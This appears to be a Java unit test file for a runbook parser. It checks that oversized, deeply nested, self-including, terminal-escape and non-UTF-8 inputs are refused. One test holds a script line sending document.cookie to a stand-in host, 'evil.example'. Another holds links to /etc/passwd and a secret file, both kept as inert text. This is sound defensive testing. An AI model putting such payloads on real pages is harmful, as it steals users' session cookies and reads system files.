package dev.steadyhand.runbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Runbooks that somebody wrote to do harm are refused, or do none; and soon. */
@Timeout(value = 30, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class HostileRunbooksTest {

    private static final String HEAD = "---\nid: x\n---\n# X\n\n## Y\n\n";

    @TempDir private Path folder;

    private Reading read(String text) throws IOException {
        Path file = Files.writeString(folder.resolve("x.md"), text);
        return new Runbooks(folder.resolve("none")).find(file.toString());
    }

    private String mistake(String text) throws IOException {
        return ((Reading.Refused) read(text)).mistakes().getFirst().text();
    }

    @Test
    void tenMegabytesAreRefused() throws IOException {
        assertThat(mistake(HEAD + "All is well. ".repeat(800_000)))
                .endsWith(
                        "x.md:1:1: The text is longer than a million characters. Split the runbook,"
                                + " and keep pictures and logs out of it.");
    }

    @Test
    void tenThousandStepsAreRefused() throws IOException {
        String steps =
                IntStream.range(0, 10_000)
                        .mapToObj(number -> "## Step " + number + "\n\nDo it.\n\n")
                        .collect(Collectors.joining());
        assertThat(mistake("---\nid: x\n---\n# X\n\n" + steps))
                .contains("x.md:2006:1: The runbook has more than 500 steps.");
    }

    @Test
    void quotesNestedAThousandDeepAreRefused() throws IOException {
        assertThat(mistake(HEAD + "> ".repeat(1000) + "deep\n"))
                .contains("x.md:8:", "This is nested more than 12 deep.");
    }

    @Test
    void listsNestedAThousandDeepAreRefused() throws IOException {
        assertThat(mistake(HEAD + "- ".repeat(1000) + "deep\n"))
                .contains("x.md:8:", "This is nested more than 12 deep.");
    }

    @Test
    void yamlNestedAHundredThousandDeepIsRefused() throws IOException {
        assertThat(mistake(HEAD + "```step\nkind: " + "[".repeat(100_000) + "\n```\n"))
                .contains("x.md:9:");
    }

    @Test
    void yamlNestedInIndentationIsRefused() throws IOException {
        String yaml =
                IntStream.range(0, 1000)
                        .mapToObj(depth -> " ".repeat(depth) + "a:\n")
                        .collect(Collectors.joining());
        assertThat(mistake(HEAD + "```step\n" + yaml + "```\n")).contains("x.md:");
    }

    @Test
    void marksThatNeverCloseAreHarmless() throws IOException {
        String marks = "[".repeat(50_000) + "*a **b ".repeat(50_000) + "`".repeat(50_000);
        assertThat(read(HEAD + marks + "\n").orThrow().steps()).hasSize(1);
    }

    @Test
    void conditionsNestedDeeplyAreRefused() throws IOException {
        String condition = "(".repeat(100) + "target.health";
        assertThat(mistake(HEAD + "```step\nkind: checklist\nwhen: " + condition + "\n```\n"))
                .contains("x.md:10:");
    }

    @Test
    void scriptsInHtmlAreTextLikeAnyOther() throws IOException {
        String script = "<script>fetch('http://evil.example/' + document.cookie)</script>";
        Step step = read(HEAD + script + "\n").orThrow().steps().getFirst();
        assertThat(step).isInstanceOf(Step.Checklist.class);
        assertThat(step.text().guidance()).isEqualTo(script);
    }

    @Test
    void linksToLocalFilesAreTextAndNothingIsReadFromThem() throws IOException {
        String links = "![key](file:///etc/passwd) and [the other](../../secret.md)";
        Runbook runbook = read(HEAD + links + "\n").orThrow();
        assertThat(runbook.steps().getFirst().text().guidance()).isEqualTo(links);
        assertThat(runbook.text()).isEqualTo(HEAD + links + "\n");
    }

    @Test
    void signsThatCommandATerminalAreRefused() throws IOException {
        assertThat(mistake(HEAD + "Well\u001B]0;owned\u0007\n"))
                .endsWith("x.md:8:5: Here stands a sign that nobody can see (U+001B). Remove it.");
    }

    @Test
    void signsThatTurnTheDirectionOfWritingAroundAreRefused() throws IOException {
        assertThat(mistake(HEAD + "Restore \u202Egnigats\n")).contains("x.md:8:9:", "(U+202E)");
    }

    @Test
    void bytesThatAreNoTextAreRefusedAtTheirPlace() throws IOException {
        Path file = folder.resolve("bytes.md");
        Files.write(file, new byte[] {'a', '\n', 'b', (byte) 0xFF, 'c'});
        Reading.Refused refused = (Reading.Refused) new Runbooks(folder).find(file.toString());
        assertThat(refused.mistakes().getFirst().text())
                .endsWith(
                        "bytes.md:2:2: Here stand bytes that are not UTF-8 text. Save the file as"
                                + " UTF-8, without anything binary in it.");
    }

    @Test
    void partsThatIncludeEachOtherAreRefused() throws IOException {
        Files.createDirectories(folder.resolve("parts"));
        Files.writeString(
                folder.resolve("parts/a.md"),
                "## A\n\n```step\nkind: include\npart: parts/b.md\n```\n");
        Files.writeString(
                folder.resolve("parts/b.md"),
                "## B\n\n```step\nkind: include\npart: parts/a.md\n```\n");
        assertThat(mistake(HEAD + "```step\nkind: include\npart: parts/a.md\n```\n"))
                .endsWith(
                        "b.md:5:7: The part \"parts/a.md\" includes itself. Take one of the"
                                + " includes between parts/a.md and this one away.");
    }

    @Test
    void partsThatMultiplyAreRefused() throws IOException {
        Files.createDirectories(folder.resolve("parts"));
        for (int level = 0; level < 3; level++) {
            StringBuilder part = new StringBuilder();
            for (int copy = 0; copy < 50; copy++) {
                part.append("## S")
                        .append(copy)
                        .append("\n\n```step\nkind: include\npart: parts/")
                        .append(level + 1)
                        .append(".md\n```\n\n");
            }
            Files.writeString(folder.resolve("parts/" + level + ".md"), part);
        }
        Files.writeString(folder.resolve("parts/3.md"), "## Z\n\n" + "Long. ".repeat(1000));
        assertThat(
                        ((Reading.Refused)
                                        read(
                                                HEAD
                                                        + "```step\n"
                                                        + "kind: include\n"
                                                        + "part: parts/0.md\n"
                                                        + "```\n"))
                                .mistakes())
                .extracting(Mistake::what)
                .contains("Parts are included more than 100 times.");
    }
}
